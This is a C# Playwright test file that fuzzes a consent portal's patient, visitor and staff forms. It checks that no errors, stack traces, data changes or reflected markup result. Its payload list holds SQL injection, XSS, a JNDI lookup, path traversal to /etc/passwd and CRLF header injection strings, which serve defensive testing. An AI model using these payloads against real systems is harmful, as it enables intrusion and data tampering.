using System.Globalization;
using ConsentPortal.Tests.Support;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;

namespace ConsentPortal.Tests.Forms;

/// <summary>
/// Hostile and malformed values in every portal form (change, check, acting-for, create account, a flag's
/// investigation), posted with a signed-in person's cookies and a valid antiforgery token, as a browser could. Pass:
/// never a 5xx or a stack trace; the person's choices and the accounts are as they were; and a note that staff may
/// legitimately add, whatever it says, is shown back as text, never as markup. Seeded; CONSENTREGISTRY_FUZZ_CASES sets
/// the cases per form (25 here).
/// </summary>
public sealed class FormFuzzTests(PortalStack stack) : IClassFixture<PortalStack>
{
    private static readonly string[] Hostile =
    [
        "' OR '1'='1", "'; DROP TABLE consent_versions;--", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "${jndi:ldap://x.example/a}",
        "{{7*7}}", "../../../../etc/passwd", "\0", "\u202e\uffff", "😀", "", " ", "-1", "99999999999999999999999", "1e400", "NaN", "9434765918", "943476591",
        "ABCDEFGHIJ", "allowed", "OBJECT", "explained", "investigating\r\nX-Injected: 1", new string('A', 20_000), "A81001;DROP", "1985-13-01",
    ];

    [Fact]
    public async Task Forms_WhenPostedHostileValuesWithAValidToken_ThenNo5xxNoStackTraceAndNothingRecorded()
    {
        var cases = int.Parse(Environment.GetEnvironmentVariable("CONSENTREGISTRY_FUZZ_CASES") ?? "25", CultureInfo.InvariantCulture);
        var random = new Random(9434765);
        var failures = new List<string>();
        var before = await CountsAsync();

        var patient = await stack.NewPageAsync();
        await PortalStack.SignInAsync(patient, "/choices/national-data-opt-out/change", "demo.patient2");
        var patientToken = await patient.InputValueAsync("input[name=__RequestVerificationToken]");
        var staff = await stack.NewPageAsync();
        await PortalStack.SignInAsync(staff, "/staff/flags", "demo.analyst");
        var flag = await staff.GetAttributeAsync("a[href^='/staff/flags/']", "href");
        await PortalStack.OpenAsync(staff, flag!);
        var staffToken = await staff.InputValueAsync("input[name=__RequestVerificationToken]");
        var visitor = await stack.NewPageAsync();
        await PortalStack.OpenAsync(visitor, "/create-account");
        var visitorToken = await visitor.InputValueAsync("input[name=__RequestVerificationToken]");

        (IPage Page, string Token, string Path, string[] Fields)[] forms =
        [
            (patient, patientToken, "/choices/national-data-opt-out/change", ["choice"]),
            (patient, patientToken, "/choices/type-1/check", ["choice", "requestId"]),
            (patient, patientToken, $"/choices/{Pick(random, Hostile)}/change", ["choice"]),
            (patient, patientToken, "/acting-for", ["nhsNumber"]),
            (visitor, visitorToken, "/create-account", ["displayName", "nhsNumber", "dateOfBirth-day", "dateOfBirth-month", "dateOfBirth-year", "postcode", "userName", "password"]),
            (staff, staffToken, flag!, ["status", "assignee", "outcome", "note", "version"]),
        ];
        foreach (var (page, token, path, fields) in forms)
        {
            for (var i = 0; i < cases; i++)
            {
                var form = page.APIRequest.CreateFormData();
                form.Set("__RequestVerificationToken", token);
                var sent = new List<string>();
                foreach (var field in fields.Where(_ => random.NextDouble() < 0.85))
                {
                    var value = Pick(random, Hostile);
                    form.Set(field, value);
                    sent.Add($"{field}={(value.Length > 40 ? value[..40] + "..." : value)}");
                }

                var response = await page.APIRequest.PostAsync(path, new APIRequestContextOptions { Form = form, MaxRedirects = 0 });
                var body = await response.TextAsync();
                if (response.Status >= 500 || body.Contains("   at ", StringComparison.Ordinal) || body.Contains("Exception", StringComparison.Ordinal))
                {
                    failures.Add($"{response.Status} for POST {path} with {string.Join("&", sent)}: {body[..Math.Min(body.Length, 300)]}");
                }
            }
        }

        await PortalStack.OpenAsync(staff, flag!);
        var shown = await staff.ContentAsync();

        Assert.True(failures.Count == 0, string.Join("\n\n", failures.Take(10)));
        Assert.Equal(before, await CountsAsync());
        Assert.DoesNotContain("<script>alert(1)</script>", shown, StringComparison.Ordinal);
        Assert.DoesNotContain("<img src=x onerror", shown, StringComparison.Ordinal);
    }

    /// <summary>The demo patient's Consent versions and the accounts, straight from the registry's database.</summary>
    private async Task<(int Versions, int Accounts)> CountsAsync()
    {
        await using var scope = stack.RegistryServices.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<ConsentApi.Persistence.RegistryDbContext>();
        return (db.ConsentVersions.Count(v => v.PatientNhsNumber == "9434765870"), db.Users.Count());
    }

    private static string Pick(Random random, string[] items) => items[random.Next(items.Length)];
}
